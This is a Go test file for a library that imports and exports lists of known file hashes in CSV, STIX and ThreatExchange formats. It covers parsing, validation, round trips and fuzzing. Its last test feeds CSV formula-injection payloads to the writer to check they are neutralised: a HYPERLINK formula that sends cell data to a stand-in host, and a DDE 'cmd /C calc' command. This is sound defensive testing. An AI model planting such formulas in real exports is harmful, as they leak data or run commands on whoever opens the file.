package exchange_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/cordonhq/cordon"
	"github.com/cordonhq/cordon/exchange"
)

var now = time.Date(2026, 3, 1, 9, 0, 0, 0, time.UTC)

func hash(b byte) []byte { return bytes.Repeat([]byte{b}, 32) }

func entries() []cordon.KnownFile {
	return []cordon.KnownFile{
		{List: cordon.KnownBlocked, Kind: cordon.KnownSHA256, Value: hash(1)},
		{List: cordon.KnownBlocked, Kind: cordon.KnownPDQ, Value: hash(2), Source: "H-ISAC", Ref: "ind-7", Note: "two lines,\nand a \"quote\"", Severity: "high", Confidence: 85,
			Expires: time.Date(2027, 1, 2, 3, 4, 5, 0, time.UTC)},
		{List: cordon.KnownWatched, Kind: cordon.KnownChromaprint, Value: []byte{1, 2, 3, 4, 5, 6, 7, 8}, Source: "phone desk"},
		{List: cordon.KnownLawful, Kind: cordon.KnownSHA256, Value: hash(3), Ref: "ticket 12"},
		{List: cordon.KnownOrdinary, Kind: cordon.KnownPDQ, Value: hash(4), Source: "ü <script>"},
	}
}

// What was written is read back as it was, in every form, and a list given for the whole is held
// against what entries say.
func TestRoundTrip(t *testing.T) {
	for _, form := range exchange.Formats() {
		var b bytes.Buffer
		if err := exchange.Write(form, &b, exchange.Each(entries())); err != nil {
			t.Fatal(form, err)
		}
		got, err := exchange.Read(form, bytes.NewReader(b.Bytes()), exchange.Options{Now: now})
		if err != nil || got.Mistakes() > 0 || got.Skipped > 0 {
			t.Fatalf("%s: %v %+v\n%s", form, err, got, b.Bytes())
		}
		if d := cmp.Diff(entries(), got.Files()); d != "" {
			t.Errorf("%s (-written +read):\n%s", form, d)
		}
		got, err = exchange.Read(form, bytes.NewReader(b.Bytes()), exchange.Options{Now: now, List: cordon.KnownBlocked})
		if err != nil || got.Mistakes() != 3 {
			t.Errorf("%s: %d entries disagree with the list for the whole, want 3 (%v)", form, got.Mistakes(), err)
		}
		if _, err := exchange.Read(form, bytes.NewReader(b.Bytes()), exchange.Options{Now: now, Max: 4}); !errors.Is(err, cordon.ErrTooLarge) {
			t.Errorf("%s: more than the limit: %v", form, err)
		}
		var none bytes.Buffer
		if err := exchange.Write(form, &none, exchange.Each(nil)); err != nil {
			t.Fatal(err)
		}
		if got, err := exchange.Read(form, &none, exchange.Options{}); err != nil || len(got.Rows) != 0 {
			t.Errorf("%s: nothing is read back as %+v, %v", form, got, err)
		}
	}
}

func TestCSV(t *testing.T) {
	sha, pdq := strings.Repeat("ab", 32), strings.Repeat("CD", 32)
	got, err := exchange.Read(exchange.CSV, strings.NewReader("\ufeffKind,Value,Expires_At,Confidence\n"+
		"sha256,"+sha+",,\n"+
		"pdq,"+pdq+",2026-12-24,40\n"+
		"pdq,"+pdq[:62]+",,\n"+
		"md5,"+sha[:32]+",,\n"+
		"sha256,xyz,,\n"+
		"sha256,"+sha+",2020-01-01,\n"+
		"sha256,"+sha+",tomorrow,\n"+
		"sha256,"+sha+",,high\n"+
		"sha256,"+sha+"\n"+
		"sha256,"+sha+",,101\n"), exchange.Options{Now: now, List: cordon.KnownBlocked, Source: "feed"})
	if err != nil || len(got.Rows) != 10 {
		t.Fatalf("%v %+v", err, got)
	}
	if f := got.Rows[1].File; f.Source != "feed" || f.Confidence != 40 || !f.Expires.Equal(time.Date(2026, 12, 24, 0, 0, 0, 0, time.UTC)) || f.Value[0] != 0xcd {
		t.Errorf("%+v", f)
	}
	for i, want := range []string{"", "", "64 hexadecimal", "the kind is", "hexadecimal digits", "had expired", "is not written like", "confidence is a number", "2 cells", "confidence is 1 to 100"} {
		row := got.Rows[i]
		if row.At != i+2 || (row.Err == nil) != (want == "") || row.Err != nil && (!strings.Contains(row.Err.Error(), want) || !errors.Is(row.Err, cordon.ErrInvalid)) {
			t.Errorf("line %d: %v, want %q", row.At, row.Err, want)
		}
	}
	if got.Mistakes() != 8 {
		t.Errorf("%d mistakes", got.Mistakes())
	}
	for text, want := range map[string]string{
		"":                            "name the columns",
		"kind\n":                      "column value",
		"kind,value,colour\n":         `"colour"`,
		"kind,value,kind\n":           "each once",
		"kind,value\nsha256,\"ab\n":   "cannot be read",
		"sha256," + sha + "\n":        "names the column",
		"kind,value\n\nsha256,a\"b\n": "cannot be read",
	} {
		if _, err := exchange.Read(exchange.CSV, strings.NewReader(text), exchange.Options{List: cordon.KnownBlocked}); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%q: %v, want %q", text, err, want)
		}
	}
}

func TestSTIX(t *testing.T) {
	sha, pdq := strings.Repeat("ab", 32), strings.Repeat("cd", 32)
	object := func(members string) string { return `{"type":"indicator","id":"indicator--1",` + members + `}` }
	bundle := `{"type":"bundle","id":"bundle--1","objects":[` + strings.Join([]string{
		`{"type":"identity","id":"identity--1","name":"ISAC"}`,
		object(`"pattern":"[file:hashes.'SHA-256' = '` + sha + `']","pattern_type":"stix","valid_until":"2026-12-31T00:00:00.000Z","confidence":70,"x_pdq":"` + pdq + `"`),
		object(`"pattern":"[file:hashes.MD5 = 'abcd' OR file:hashes.'SHA-256' = '` + sha + `']"`),
		object(`"revoked":true,"pattern":"[file:hashes.'SHA-256' = '` + sha + `']"`),
		object(`"pattern":"[file:hashes.MD5 = 'abcd']"`),
		object(`"pattern":"[domain-name:value = 'x.example']"`),
		object(`"pattern":"[file:hashes.'SHA-256' = '` + sha + `' AND file:name = 'x']"`),
		object(`"pattern":"rule x { }","pattern_type":"yara"`),
		`"text"`,
	}, ",") + `]}`
	got, err := exchange.Read(exchange.STIX, strings.NewReader(bundle), exchange.Options{Now: now, List: cordon.KnownWatched, Source: "ISAC"})
	if err != nil || got.Skipped != 2 {
		t.Fatalf("%v %+v", err, got)
	}
	if len(got.Rows) != 8 || got.Mistakes() != 5 {
		t.Fatalf("%d rows, %d mistakes: %+v", len(got.Rows), got.Mistakes(), got.Rows)
	}
	if a, b := got.Rows[0].File, got.Rows[1].File; a.Kind != cordon.KnownSHA256 || b.Kind != cordon.KnownPDQ || a.Ref != "indicator--1" || a.Source != "ISAC" || b.Confidence != 70 || b.Expires.IsZero() || got.Rows[0].At != 2 {
		t.Errorf("%+v", got.Rows[:2])
	}
	for i, want := range []string{"none is SHA-256", "something else than hashes", "something else than hashes", "type \"yara\"", "no STIX object"} {
		if e := got.Rows[3+i].Err; e == nil || !strings.Contains(e.Error(), want) {
			t.Errorf("object %d: %v, want %q", got.Rows[3+i].At, e, want)
		}
	}
	for _, text := range []string{"", "7", `{"type":"bundle"}`, `{"objects":{}}`, `{"objects":[{}`, `[{}] []`, `{"objects":[1,]}`} {
		if _, err := exchange.Read(exchange.STIX, strings.NewReader(text), exchange.Options{}); !errors.Is(err, cordon.ErrInvalid) {
			t.Errorf("%q: %v", text, err)
		}
	}
}

func TestThreatExchange(t *testing.T) {
	sha, pdq := strings.Repeat("ab", 32), strings.Repeat("cd", 32)
	data := `{"paging":{"next":"x"},"data":[` + strings.Join([]string{
		`{"id":"10","indicator":{"indicator":"` + pdq + `","type":"HASH_PDQ"},"status":"MALICIOUS","owner":{"id":"5","name":"Example App"},"severity":"SEVERE","confidence":90,"expire_time":1798761600}`,
		`{"id":"11","raw_indicator":"` + sha + `","type":"HASH_SHA256","status":"SUSPICIOUS","owner":{"id":"5"},"expired_on":"2027-01-01T00:00:00+0000"}`,
		`{"id":"12","indicator":"` + sha + `","type":"hash_sha256","status":"NON_MALICIOUS"}`,
		`{"id":"13","indicator":"` + sha + `","type":"HASH_MD5","status":"MALICIOUS"}`,
		`{"id":"14","indicator":[1],"type":"HASH_PDQ","status":"MALICIOUS"}`,
		`{"id":"15","indicator":"` + pdq + `","type":"HASH_PDQ","status":"MALICIOUS","expire_time":true}`,
	}, ",") + `]}`
	got, err := exchange.Read(exchange.ThreatExchange, strings.NewReader(data), exchange.Options{Now: now, Source: "exchange"})
	if err != nil || len(got.Rows) != 6 {
		t.Fatalf("%v %+v", err, got)
	}
	want := []cordon.KnownFile{
		{List: cordon.KnownBlocked, Kind: cordon.KnownPDQ, Value: hash(0xcd), Source: "Example App", Ref: "10", Severity: "SEVERE", Confidence: 90, Expires: time.Date(2027, 1, 1, 0, 0, 0, 0, time.UTC)},
		{List: cordon.KnownWatched, Kind: cordon.KnownSHA256, Value: hash(0xab), Source: "5", Ref: "11", Expires: time.Date(2027, 1, 1, 0, 0, 0, 0, time.UTC)},
	}
	if d := cmp.Diff(want, got.Files()); d != "" {
		t.Error(d)
	}
	for i, want := range []string{"does not say on which list", "HASH_MD5", "neither a text nor an object", "neither a text nor a number"} {
		if e := got.Rows[2+i].Err; e == nil || !strings.Contains(e.Error(), want) {
			t.Errorf("descriptor %d: %v, want %q", got.Rows[2+i].At, e, want)
		}
	}
	// An array alone is a list too; for one list as a whole the status does not matter.
	got, err = exchange.Read(exchange.ThreatExchange, strings.NewReader(`[{"indicator":"`+sha+`","type":"HASH_SHA256","status":"NON_MALICIOUS"}]`), exchange.Options{Now: now, List: cordon.KnownLawful})
	if err != nil || got.Mistakes() != 0 || got.Rows[0].File.List != cordon.KnownLawful {
		t.Errorf("%v %+v", err, got)
	}
}

func TestUnknownForm(t *testing.T) {
	if _, err := exchange.Read("xml", strings.NewReader(""), exchange.Options{}); !errors.Is(err, cordon.ErrInvalid) {
		t.Error(err)
	}
	if err := exchange.Write("xml", &bytes.Buffer{}, exchange.Each(nil)); !errors.Is(err, cordon.ErrInvalid) {
		t.Error(err)
	}
	if _, err := exchange.Read(exchange.CSV, strings.NewReader(""), exchange.Options{List: "red"}); !errors.Is(err, cordon.ErrInvalid) {
		t.Error(err)
	}
}

// fuzz holds what strangers' lists make of the reader: what it calls fit is fit, and survives
// being written and read again.
func fuzz(f *testing.F, form exchange.Format) {
	var b bytes.Buffer
	if err := exchange.Write(form, &b, exchange.Each(entries())); err != nil {
		f.Fatal(err)
	}
	f.Add(b.Bytes())
	f.Fuzz(func(t *testing.T, data []byte) {
		got, err := exchange.Read(form, bytes.NewReader(data), exchange.Options{Now: now, Source: "feed", Max: 1000})
		if err != nil {
			if !errors.Is(err, cordon.ErrInvalid) && !errors.Is(err, cordon.ErrTooLarge) {
				t.Fatalf("an error that does not say whose fault it is: %v", err)
			}
			return
		}
		files := got.Files()
		for _, k := range files {
			if err := k.Check(now); err != nil {
				t.Fatalf("%+v was called fit: %v", k, err)
			}
		}
		var again bytes.Buffer
		if err := exchange.Write(form, &again, exchange.Each(files)); err != nil {
			t.Fatal(err)
		}
		back, err := exchange.Read(form, bytes.NewReader(again.Bytes()), exchange.Options{Now: now})
		if err != nil || back.Mistakes() > 0 {
			t.Fatalf("what was read cannot be written and read again: %v %+v\n%s", err, back, again.Bytes())
		}
		if d := cmp.Diff(fmt.Sprintf("%+v", files), fmt.Sprintf("%+v", back.Files())); d != "" {
			t.Fatalf("read again it is another (-first +second):\n%s", d)
		}
	})
}

func FuzzCSV(f *testing.F)            { fuzz(f, exchange.CSV) }
func FuzzSTIX(f *testing.F)           { fuzz(f, exchange.STIX) }
func FuzzThreatExchange(f *testing.F) { fuzz(f, exchange.ThreatExchange) }

// What a spreadsheet might take for a formula is written as text, and comes back as it was; what
// somebody else's program exported with an apostrophe in front is read without it.
func TestCSVHasNoFormulas(t *testing.T) {
	list := entries()[:1]
	list[0].Source, list[0].Ref, list[0].Note = "=HYPERLINK(\"http://a.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "'@SUM(1)\t-1+1"
	var b bytes.Buffer
	if err := exchange.Write(exchange.CSV, &b, exchange.Each(list)); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("%v, %v", rows, err)
	}
	for _, cell := range rows[1] {
		if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
			t.Errorf("%q acts", cell)
		}
	}
	got, err := exchange.Read(exchange.CSV, &b, exchange.Options{Now: now})
	if err != nil || got.Mistakes() > 0 {
		t.Fatal(err, got)
	}
	if d := cmp.Diff(list, got.Files()); d != "" {
		t.Errorf("-written +read:\n%s", d)
	}
}
